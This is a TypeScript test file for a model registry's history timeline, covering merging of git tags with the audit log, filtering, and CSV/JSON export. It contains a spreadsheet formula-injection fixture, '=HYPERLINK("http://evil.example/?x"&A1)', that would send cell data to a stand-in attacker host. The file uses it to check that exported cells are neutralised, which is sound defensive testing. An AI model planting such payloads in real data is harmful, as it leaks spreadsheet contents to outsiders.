import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { describe, it } from 'node:test';
import { filterChoices, filterTimeline, type TimelineEvent } from '../../../src/core/history/timeline';
import { exportTimeline } from '../../../src/core/history/timelineExport';
import { readTimeline } from '../../../src/store/timeline';
import { addRun } from '../helpers/sample';
import { ACTOR, commit, git, makeRepo, modelFile, openRegistry } from '../registry/gitRepos';

const TEAMMATE = '=HYPERLINK("http://evil.example/?x"&A1)';
const TEAMMATE_TIME = '2020-01-02T03:04:05Z';

/** A registry with Model Ledger's own writes, a teammate's tag written with git alone, and a run edit. */
async function storyRepo() {
  const repo = makeRepo('history-');
  modelFile(repo, 'models/churn.pkl', 'weights 1\n');
  const { store, registry } = await openRegistry(repo);
  await registry.register({ model: 'churn', artifactPath: 'models/churn.pkl', description: 'Baseline' });
  commit(repo, 'train.py', 'print("better")\n');
  modelFile(repo, 'models/churn.pkl', 'weights 2\n');
  await registry.register({ model: 'churn', bump: 'minor', artifactPath: 'models/churn.pkl' });
  await registry.assign('churn', 'v0.0.1', 'prod');
  await registry.assign('churn', 'v0.1.0', 'prod');
  await registry.rollback('churn', 'prod');
  // A teammate's stage tag, made with git and fetched: in the registry, not in this store's log.
  git(repo, ['tag', '-a', 'churn#staging#4', '-m', 'Assigning stage staging to artifact churn version v0.1.0', 'churn@v0.1.0^{}'], {
    GIT_COMMITTER_NAME: TEAMMATE,
    GIT_COMMITTER_EMAIL: 'mallory@example.com',
    GIT_COMMITTER_DATE: TEAMMATE_TIME,
  });
  await registry.scan();
  const run = addRun(store, { name: 'gbm' });
  store.runAnnotations.rename(run, '@SUM(1+1), "quoted"', 'Ada Lovelace <ada@example.com>');
  return { repo, store, registry, run };
}

describe('History timeline: registry tags and the audit log merged', async () => {
  const { store, run } = await storyRepo();
  const events = readTimeline(store);

  it('pairs each tag Model Ledger wrote with its audit entry, keeps the rest apart, newest first', () => {
    const row = (e: TimelineEvent) => [e.action, e.model, e.version, e.stage, e.tag, e.auditId === null ? 'git only' : 'git+log'];
    assert.deepEqual(
      events.filter((e) => e.tag !== null).map(row),
      [
        ['assign', 'churn', 'v0.0.1', 'prod', 'churn#prod#3', 'git+log'],
        ['assign', 'churn', 'v0.1.0', 'prod', 'churn#prod#2', 'git+log'],
        ['assign', 'churn', 'v0.0.1', 'prod', 'churn#prod#1', 'git+log'],
        ['register', 'churn', 'v0.1.0', null, 'churn@v0.1.0', 'git+log'],
        ['register', 'churn', 'v0.0.1', null, 'churn@v0.0.1', 'git+log'],
        ['assign', 'churn', 'v0.1.0', 'staging', 'churn#staging#4', 'git only'],
      ],
    );
    assert.equal(events.length, 7, 'six tags and the run rename; no entry twice');
    const rename = events.find((e) => e.tag === null)!;
    assert.deepEqual([rename.action, rename.model, rename.actor, rename.commit], ['run.rename', null, 'Ada Lovelace <ada@example.com>', null]);
    assert.deepEqual([rename.target, rename.detail], [run, '{"name":"gbm"} → {"name":"@SUM(1+1), \\"quoted\\""}']);
    const rollback = events.find((e) => e.tag === 'churn#prod#3')!;
    assert.equal(rollback.detail, '{"version":"v0.1.0"} → {"version":"v0.0.1","tag":"churn#prod#3"}');
    assert.equal(rollback.actor, ACTOR);
    assert.match(rollback.commit ?? '', /^[0-9a-f]{40}$/);
    const teammate = events.at(-1)!;
    assert.deepEqual([teammate.actor, teammate.at], [`${TEAMMATE} <mallory@example.com>`, Date.parse(TEAMMATE_TIME)]);
    assert.equal(teammate.detail, 'Assigning stage staging to artifact churn version v0.1.0');
    for (let i = 1; i < events.length; i++) assert.ok(events[i - 1]!.at >= events[i]!.at, 'newest first');
  });

  it('filters by model, stage, actor and date range, and offers the values there are', () => {
    assert.equal(filterTimeline(events, { model: 'churn' }).length, 6);
    assert.deepEqual(filterTimeline(events, { stage: 'prod' }).map((e) => e.tag), ['churn#prod#3', 'churn#prod#2', 'churn#prod#1']);
    assert.deepEqual(filterTimeline(events, { actor: 'HYPERLINK' }).map((e) => e.tag), ['churn#staging#4']);
    assert.equal(filterTimeline(events, { actor: 'ada lovelace' }).length, 6);
    const teammateAt = Date.parse(TEAMMATE_TIME);
    assert.deepEqual(filterTimeline(events, { to: teammateAt }).map((e) => e.tag), ['churn#staging#4'], 'the bound is inclusive');
    assert.equal(filterTimeline(events, { from: teammateAt + 1 }).length, 6);
    assert.deepEqual(filterTimeline(events, { model: 'churn', stage: 'staging', from: teammateAt, to: teammateAt }).length, 1);
    assert.deepEqual(filterTimeline(events, { model: 'other' }), []);
    assert.deepEqual(filterChoices(events), {
      models: ['churn'],
      stages: ['prod', 'staging'],
      actors: [`${TEAMMATE} <mallory@example.com>`, 'Ada Lovelace <ada@example.com>'],
    });
  });

  it('exports CSV with formula cells made text and JSON with every field', () => {
    const csv = exportTimeline(events, 'csv');
    assert.equal(csv.split('\r\n')[0], '"time","actor","action","target","model","version","stage","tag","commit","gate","auditId","detail"');
    const records = parse(csv, { record_delimiter: '\r\n' }) as string[][];
    assert.equal(records.length, events.length + 1, 'a header and a record per event');
    const teammate = records.find((r) => r[3] === 'churn#staging#4')!;
    assert.deepEqual(teammate.slice(0, 8), ['2020-01-02T03:04:05.000Z', `'=HYPERLINK("http://evil.example/?x"&A1) <mallory@example.com>`, 'assign', 'churn#staging#4', 'churn', 'v0.1.0', 'staging', 'churn#staging#4']);
    const rename = records.find((r) => r[2] === 'run.rename')!;
    // The detail holds a comma and quotes: one field, read back whole.
    assert.deepEqual(rename.slice(2), ['run.rename', run, '', '', '', '', '', '', '6', '{"name":"gbm"} → {"name":"@SUM(1+1), \\"quoted\\""}']);
    for (const record of records.slice(1)) {
      for (const cell of record) assert.doesNotMatch(cell, /^[=+@\t\r-]/, `no cell starts as a formula: ${record.join(' | ')}`);
    }
    // A separator a spreadsheet may split on (";" in many locales) stays inside its quoted cell.
    assert.ok(csv.split('\r\n').slice(1, -1).every((line) => line.startsWith('"') && line.endsWith('"')));

    const json = JSON.parse(exportTimeline(events, 'json')) as Record<string, unknown>[];
    assert.equal(json.length, events.length);
    assert.deepEqual(Object.keys(json[0]!), ['time', 'actor', 'action', 'target', 'model', 'version', 'stage', 'tag', 'commit', 'gate', 'auditId', 'detail']);
    assert.equal(json.at(-1)!.actor, `${TEAMMATE} <mallory@example.com>`, 'JSON keeps the text as it is');
    assert.equal(json.at(-1)!.auditId, null);
  });
});
